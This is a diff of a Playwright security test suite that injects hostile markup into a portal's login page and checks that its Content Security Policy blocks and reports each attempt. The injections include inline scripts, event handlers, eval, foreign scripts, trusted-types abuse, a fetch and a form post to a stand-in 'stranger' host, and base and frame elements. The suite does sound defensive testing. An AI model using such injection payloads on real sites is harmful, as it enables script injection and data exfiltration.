@@ -1,3 +1,4 @@
+import { locales } from '@gatehouse/platform';
 import type { BrowserContext, Page } from '@playwright/test';
 import { mainBrand, strangerOrigin } from '../src/harness/addresses.ts';
 import { keptReports } from '../src/harness/csp-reports.ts';
@@ -5,79 +6,113 @@ import { complaints } from '../src/harness/page-watch.ts';
 import { expect, test } from '../src/harness/test.ts';
 
 /** Serves the portal's own login page with a stranger's markup in it, under the page's own policy. */
-async function poison(context: BrowserContext, markup: (nonce: string, mark: string) => string): Promise<string> {
-  const mark = crypto.randomUUID();
-  await context.route('**/login?*', async (route) => {
+async function poison(context: BrowserContext, address: string, markup: (nonce: string) => string): Promise<void> {
+  await context.route(address, async (route) => {
     const answer = await route.fetch();
     const nonce = /'nonce-([^']+)'/.exec(answer.headers()['content-security-policy'] ?? '')?.[1] ?? '';
-    const body = (await answer.text()).replace('</body>', `${markup(nonce, mark)}</body>`);
+    const body = (await answer.text()).replace('</body>', `${markup(nonce)}</body>`);
     await route.fulfill({ response: answer, body });
   });
   await context.route(`${strangerOrigin}/**`, (route) =>
-    route.fulfill({ contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' }, body: 'window.breached = true;' }),
+    route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'access-control-allow-origin': '*' },
+      body: 'window.breached = true;',
+    }),
   );
-  return mark;
 }
+
+/** Each attack has a page of its own, told apart by its language, so that its report is known to be its own. */
+const addressOf = (attack: number): string => `${mainBrand.origin}/${locales[attack]}/login`;
 
 const breached = (page: Page) => page.evaluate(() => Reflect.has(window, 'breached'));
 
 const attacks = [
   { name: 'an inline script', directive: /^script-src/, markup: () => '<script>window.breached = true</script>' },
-  { name: 'an inline handler', directive: /^script-src/, markup: () => '<img src="data:image/png;base64,AA" onerror="window.breached = true">' },
+  {
+    name: 'an inline handler',
+    directive: /^script-src/,
+    markup: () => '<img src="data:image/png;base64,AA" onerror="window.breached = true">',
+  },
   {
     name: 'eval inside an allowed script',
     directive: /^(script-src|require-trusted-types-for)/,
     markup: (nonce: string) => `<script nonce="${nonce}">try { eval('window.breached = true') } catch {}</script>`,
   },
-  { name: 'a script of a foreign remote host', directive: /^script-src/, markup: () => `<script src="${strangerOrigin}/mf-login/1.0.0/remote.js"></script>` },
+  {
+    name: 'a script of a foreign remote host',
+    directive: /^script-src/,
+    markup: () => `<script src="${strangerOrigin}/mf-login/1.0.0/remote.js"></script>`,
+  },
   {
     name: 'markup written by a script',
     directive: /^require-trusted-types-for/,
-    markup: (nonce: string) => `<script nonce="${nonce}">try { document.body.insertAdjacentHTML('beforeend', '<b>hi</b>'); window.breached = true } catch {}</script>`,
+    markup: (nonce: string) =>
+      `<script nonce="${nonce}">try { document.body.insertAdjacentHTML('beforeend', '<b>hi</b>'); window.breached = true } catch {}</script>`,
   },
   {
-    name: 'a policy with a stranger\'s name',
+    name: "a policy with a stranger's name",
     directive: /^trusted-types/,
-    markup: (nonce: string) => `<script nonce="${nonce}">try { trustedTypes.createPolicy('evil', { createHTML: (s) => s }); window.breached = true } catch {}</script>`,
+    markup: (nonce: string) =>
+      `<script nonce="${nonce}">try { trustedTypes.createPolicy('evil', { createHTML: (s) => s }); window.breached = true } catch {}</script>`,
   },
-  { name: 'a frame', directive: /^(frame-src|default-src)/, markup: () => `<iframe src="${strangerOrigin}/"></iframe>` },
+  {
+    name: 'a frame',
+    directive: /^(frame-src|default-src)/,
+    markup: () => `<iframe src="${strangerOrigin}/"></iframe>`,
+  },
   { name: 'a base element', directive: /^base-uri/, markup: () => `<base href="${strangerOrigin}/">` },
   { name: 'an inline style', directive: /^style-src/, markup: () => '<p style="position:fixed">hi</p>' },
   {
     name: 'data sent to a stranger',
     directive: /^connect-src/,
-    markup: (nonce: string) => `<script nonce="${nonce}">fetch('${strangerOrigin}/take').then(() => { window.breached = true }, () => {})</script>`,
+    markup: (nonce: string) =>
+      `<script nonce="${nonce}">fetch('${strangerOrigin}/take').then(() => { window.breached = true }, () => {})</script>`,
   },
 ] as const;
 
-for (const { name, directive, markup } of attacks) {
+for (const [number, { name, directive, markup }] of attacks.entries()) {
   test(`${name} is blocked and reported`, async ({ context, login, page, watch }) => {
     watch.expect(complaints.policy);
     watch.expect(/ERR_INVALID_URL|net::ERR/);
-    const mark = await poison(context, markup);
-    await login.open(mainBrand, undefined, { mark });
-    await expect.poll(() => watch.violations().filter(({ text }) => directive.test(text)).length, { message: 'the page says so' }).toBeGreaterThan(0);
+    const address = addressOf(number);
+    await poison(context, address, markup);
+    await page.goto(address);
+    await expect(login.identifier).toBeVisible();
+    const seen = () => watch.violations().filter(({ text }) => directive.test(text)).length;
+    await expect.poll(seen, { message: 'the page says so' }).toBeGreaterThan(0);
     expect(await breached(page)).toBe(false);
-    await expect
-      .poll(async () => (await keptReports(mark)).filter((report) => directive.test(report.directive)).length, { message: 'the edge kept the report' })
-      .toBeGreaterThan(0);
+    const kept = async () => (await keptReports(address)).filter((report) => directive.test(report.directive)).length;
+    await expect.poll(kept, { message: 'the edge kept the report' }).toBeGreaterThan(0);
   });
 }
 
-test('a form that posts to a stranger is blocked and reported', async ({ context, login, page, watch }) => {
+test('a form that posts to a stranger is blocked and reported', async ({ context, page, watch }) => {
   watch.expect(complaints.policy);
-  const mark = await poison(context, () => `<form method="post" action="${strangerOrigin}/take"><button id="trap">Continue</button></form>`);
-  await login.open(mainBrand, undefined, { mark });
+  const address = addressOf(attacks.length);
+  await poison(
+    context,
+    address,
+    () => `<form method="post" action="${strangerOrigin}/take"><button id="trap">Continue</button></form>`,
+  );
+  await page.goto(address);
   await page.locator('#trap').click();
-  await expect.poll(() => watch.violations().filter(({ text }) => text.startsWith('form-action')).length).toBeGreaterThan(0);
-  expect(new URL(page.url()).origin).toBe(mainBrand.origin);
-  await expect.poll(async () => (await keptReports(mark)).map(({ directive }) => directive)).toContain('form-action');
+  await expect
+    .poll(() => watch.violations().filter(({ text }) => text.startsWith('form-action')).length)
+    .toBeGreaterThan(0);
+  expect(page.url()).toBe(address);
+  await expect
+    .poll(async () => (await keptReports(address)).map(({ directive }) => directive))
+    .toContain('form-action');
 });
 
 test('no other site can put the login page in a frame', async ({ context, page, watch }) => {
   watch.expect(/frame-ancestors|ERR_BLOCKED/);
   await context.route(`${strangerOrigin}/**`, (route) =>
-    route.fulfill({ contentType: 'text/html', body: `<title>stranger</title><iframe src="${mainBrand.origin}/login"></iframe>` }),
+    route.fulfill({
+      contentType: 'text/html',
+      body: `<title>stranger</title><iframe src="${mainBrand.origin}/login"></iframe>`,
+    }),
   );
   await page.goto(`${strangerOrigin}/`);
   await expect(page.frameLocator('iframe').locator('input')).toHaveCount(0);
